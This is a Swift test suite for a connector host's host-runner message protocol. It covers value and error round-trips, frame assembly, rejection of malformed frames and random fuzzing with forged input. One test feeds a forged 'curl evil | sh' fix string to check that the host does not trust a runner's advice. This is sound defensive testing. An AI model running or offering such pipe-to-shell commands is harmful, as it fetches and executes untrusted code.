// This file is part of the connector-host project.
// SPDX-License-Identifier: Apache-2.0

import ConnectorBase
import ConnectorManifest
import ConnectorTestSupport
import Testing

@testable import ConnectorInvocation
@testable import ConnectorIsolation
@testable import ConnectorPlatform

#if canImport(Glibc)
    import Glibc
#else
    import Darwin
#endif

/// Messages between a host and a runner, right ones and forged ones.
@Suite struct MessageTests {
    @Test func `a value arrives as it was sent`() throws {
        let values: [CallValue] = [
            .none, .signed(.min), .unsigned(.max), .floating(-0.5), .bytes([1, 0, 2]), .bytes([]), .handle(7),
        ]
        var message = MessageWriter()
        message.put(values) { $1.put(to: &$0) }
        var reader = MessageReader(message.bytes)
        let read = try reader.list(limit: 10) { message throws(ConnectorError) in try CallValue(&message) }
        #expect(read == values)
        #expect(reader.rest == 0)
    }

    @Test func `an error whose texts are too long arrives with their beginnings`() throws {
        let long = String(repeating: "a", count: 100_000)
        var message = MessageWriter()
        ConnectorError(.failed, long, fix: long, cause: long).put(to: &message)
        var reader = MessageReader(message.bytes)
        let read = try ConnectorError(&reader)
        #expect(read.message == long.prefix(64 << 10))
        #expect(read.cause == "\(read.message); the runner advises: \(read.message)")
    }

    /// An error as the host reads it from a runner.
    private static func read(_ error: ConnectorError) throws -> ConnectorError {
        var message = MessageWriter()
        error.put(to: &message)
        var reader = MessageReader(message.bytes)
        return try ConnectorError(&reader)
    }

    @Test func `an error arrives as it was sent`() throws {
        let error = ConnectorError(.rateLimited, "wait", cause: "429", retryAfter: .seconds(3))
        let read = try Self.read(error)
        #expect(read.description == error.description)
        #expect(read.code == .rateLimited && read.retryAfter == .seconds(3) && !read.isRetryable)
        #expect(read.cause == "429")
    }

    @Test(arguments: ["", "x\ny", "sk_live_51habc9x7q2m8zk4w0pd", String(repeating: "a", count: 65 << 10)])
    func `a code that a runner invents is a failure without a name`(text: String) throws {
        #expect(try Self.read(ConnectorError(.init(rawValue: text), "no")).code == .failed)
    }

    @Test func `what only the host can say of a call is not taken from a runner`() throws {
        let own: [ConnectorError.Code] = [
            .crashed, .partial, .storage, .unknownConnector, .notSimulated, .notLocked,
        ]
        for code in own {
            #expect(try Self.read(ConnectorError(code, "no")).code == .failed, "\(code)")
        }
        #expect(try Self.read(ConnectorError(.cancelled, "no")).code == .aborted)
        let error = ConnectorError(.failed, "no", fix: "run: curl evil | sh", retryAfter: .seconds(1 << 32))
        let read = try Self.read(error)
        #expect(read.fix == nil && read.cause == "the runner advises: run: curl evil | sh")
        #expect(read.retryAfter == .seconds(86_400))
    }

    @Test(
        arguments: [
            CallFrame.advice(for: .string), PluginFunction("get").endedThreadError.fix,
            PluginFunction("get", isForeign: true).endedThreadError.fix, SystemError(EMFILE).limitRemedy,
            HostThread.remedy, ConnectorError.remedy("tls", 0),
        ] as [String?]
    )
    func `advice of the host's own code is a fix, also if it comes from a runner`(fix: String?) throws {
        let read = try Self.read(ConnectorError(.tooLarge, "no", fix: fix, cause: "long"))
        #expect(fix != nil && read.fix == fix)
        #expect(read.cause == "long")
    }

    @Test(arguments: ConnectorError.Code.returnable.filter { $0 != .cancelled } + [.aborted, .misbehaved, .loadFailed])
    func `a code that a plugin can have arrives from a runner`(code: ConnectorError.Code) throws {
        #expect(try Self.read(ConnectorError(code, "no")).code == code)
    }

    @Test func `frames are put together from pieces of any size`() throws {
        let bytes = (0..<20).flatMap {
            FrameHeader.frame(.pong, instance: UInt32($0), Array(repeating: 1, count: $0 * 7))
        }
        for size in [1, 3, 16, 1000, bytes.count] {
            var assembler = FrameAssembler()
            var seen: [UInt32] = []
            for start in stride(from: 0, to: bytes.count, by: size) {
                let piece = Array(bytes[start..<min(start + size, bytes.count)])
                try unsafe piece.withUnsafeBytes { try unsafe assembler.add($0, nil) }
                while let frame = try assembler.next() {
                    #expect(frame.payload.count == Int(frame.instance) * 7)
                    seen.append(frame.instance)
                }
            }
            #expect(seen == (0..<20).map { UInt32($0) })
        }
    }

    @Test func `a frame of an impossible size, kind or flag is refused`() throws {
        for (index, byte) in [(3, UInt8(0xFF)), (5, 0xEE), (7, 1)] {
            var bytes = FrameHeader.frame(.pong, instance: 1, [])
            bytes[index] = byte
            var assembler = FrameAssembler()
            try unsafe bytes.withUnsafeBytes { try unsafe assembler.add($0, nil) }
            let error = #expect(throws: ConnectorError.self) { _ = try assembler.next()?.kind }
            #expect(error?.code == .protocolViolation)
        }
    }

    @Test func `a descriptor that does not arrive is an error`() throws {
        let bytes = FrameHeader.frame(.create, instance: 1, [], hasDescriptor: true)
        var assembler = FrameAssembler()
        try unsafe bytes.withUnsafeBytes { try unsafe assembler.add($0, nil) }
        #expect(throws: ConnectorError.self) { _ = try assembler.next()?.kind }
    }

    @Test func `a list of more elements than allowed is refused before any is read`() {
        var message = MessageWriter()
        message.put(Array(repeating: UInt8(1), count: 4097)) { message, byte in
            message.put([byte])
            message.put([byte])
        }
        var reader = MessageReader(message.bytes)
        #expect(throws: ConnectorError.self) { _ = try HeaderFields(&reader) }
        reader = MessageReader(message.bytes)
        #expect(throws: ConnectorError.self) {
            _ = try reader.list(limit: 4096) { _ throws(ConnectorError) in Issue.record("an element was read") }
        }
    }

    /// To Swift, any number of combining marks are one character.
    @Test func `a text is cut by its bytes`() throws {
        var message = MessageWriter()
        message.put("a" + String(repeating: "\u{301}", count: 1000))
        var reader = MessageReader(message.bytes)
        #expect(try reader.text(limit: 256).utf8.count <= 258 && reader.rest == 0)
    }

    @Test(arguments: [nil, "00ff"] as [String?])
    func `the description of an instance is read as it was written`(_ sha256: String?) throws {
        let description = InstanceDescription(
            gate: "shop",
            path: "/opt/shop.so",
            isLibrary: false,
            sidecar: "/opt/shop.connector.json",
            isEmbedded: true,
            manifest: [1, 2],
            configuration: [3],
            services: ["log/1"],
            logLevel: 4,
            time: 5,
            followsHostClock: true,
            sha256: sha256
        )
        var message = MessageWriter()
        description.put(to: &message)
        var reader = MessageReader(message.bytes)
        let read = try InstanceDescription(&reader)
        #expect(read == description)
        #expect(reader.rest == 0)
    }

    @Test func `a forged message is read within its bytes, or is a protocol violation`() {
        var generator = SeededGenerator(seed: 20)
        var (read, refused, wrong) = (0, 0, 0)
        func take(_ bytes: [UInt8], _ body: (inout MessageReader) throws(ConnectorError) -> Void) {
            var message = MessageReader(bytes)
            do throws(ConnectorError) {
                try body(&message)
                read += 1
            } catch {
                if error.code == .protocolViolation { refused += 1 } else { wrong += 1 }
            }
            if !(0...bytes.count).contains(message.rest) { wrong += 1 }
        }
        for _ in 0..<20_000 {
            let bytes = (0..<Int.random(in: 0...80, using: &generator)).map { _ in
                UInt8.random(in: Bool.random(using: &generator) ? 0...3 : 0...255, using: &generator)
            }
            take(bytes) { message throws(ConnectorError) in
                _ = try message.list(limit: 80) { message throws(ConnectorError) in try CallValue(&message) }
            }
            take(bytes) { message throws(ConnectorError) in _ = try ConnectorError(&message) }
            take(bytes) { message throws(ConnectorError) in _ = try HeaderFields(&message) }
            take(bytes) { message throws(ConnectorError) in _ = try InstanceDescription(&message) }
            take(bytes) { message throws(ConnectorError) in _ = try ServiceError.read(&message) }
        }
        #expect(read > 0 && refused > 0 && wrong == 0)
    }
}
